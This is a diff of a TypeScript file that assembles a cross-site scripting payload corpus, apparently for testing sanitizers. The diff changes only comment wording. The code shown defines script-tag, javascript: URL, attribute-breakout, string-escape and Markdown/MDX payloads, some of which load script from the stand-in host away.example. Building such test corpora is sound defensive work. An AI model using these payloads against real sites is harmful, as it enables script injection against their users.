@@ -1,16 +1,17 @@
 /**
- * Texts that would run something, load something from elsewhere or take the place of something, if any program on the
- * way took them for more than text. Written anew from what is known of browsers:
- * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
+ * Texts that would run something, load something from elsewhere or replace something, if any program along the way took
+ * them for more than text. Written from scratch, after what is known of browsers:
+ * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
+ * https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
  */
 
-/** What a payload calls where it runs: a dialog, and a mark that stays. `N` becomes its number. */
+/** The code that payloads run: it opens a dialog and leaves a mark. `N` is replaced by the payload's number. */
 const RUN = 'alert(N),globalThis.harmed=N';
 const SAID = "alert('N')";
-/** Whom a payload asks where it loads. */
+/** The address that payloads load from. */
 const AWAY = '//away.example/N';
 
-/** Elements that run or load by themselves, without anybody's doing. */
+/** Elements that run or load something without any user action. */
 const ELEMENTS = [
   `<script>${RUN}</script>`,
   `<script src=${AWAY}></script>`,
@@ -124,10 +125,10 @@ const ELEMENTS = [
   `<a ping="${AWAY}" href="#">a</a>`,
 ];
 
-/** What an element may stand behind, to get out of what it was put into. */
+/** Prefixes that break out of a surrounding element or attribute. */
 const WAYS_OUT = ['', '">', "'>", '</script>', '</style></title></textarea>', ' --></noscript>'];
 
-/** Addresses that are scripts, or lead away without showing it. */
+/** Addresses that are scripts, or that lead elsewhere in disguise. */
 const ADDRESSES = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
@@ -157,7 +158,7 @@ const ADDRESSES = [
   `mailto:a@away.example?subject=N&body=<script>${RUN}</script>`,
 ];
 
-/** Ends of texts in which a payload may land: scripts, data, styles, templates, other languages. */
+/** Endings of contexts into which a payload may be inserted: scripts, data, styles, templates, other languages. */
 const ESCAPES = [
   `';${RUN}//`,
   `";${RUN}//`,
@@ -205,7 +206,7 @@ const ESCAPES = [
   `import('https:${AWAY}')`,
 ];
 
-/** The same in Markdown's words. */
+/** The same in Markdown. */
 const MARKDOWN = [
   ...ADDRESSES.map((address) => `[a](${address})`),
   ...ADDRESSES.slice(0, 8).map((address) => `[a](<${address}>)`),
@@ -225,7 +226,7 @@ const MARKDOWN = [
   `<Tabs><TabItem value="a" label={${RUN}}>a</TabItem></Tabs>`,
 ];
 
-/** Every payload, each another one, with its number in the place of `N`. */
+/** Every payload, all distinct, each with its number in place of `N`. */
 export const PAYLOADS: readonly string[] = [
   ...ELEMENTS.flatMap((element) => WAYS_OUT.slice(0, 2).map((way) => way + element)),
   ...ELEMENTS.slice(0, 16).flatMap((element) => WAYS_OUT.slice(2).map((way) => way + element)),
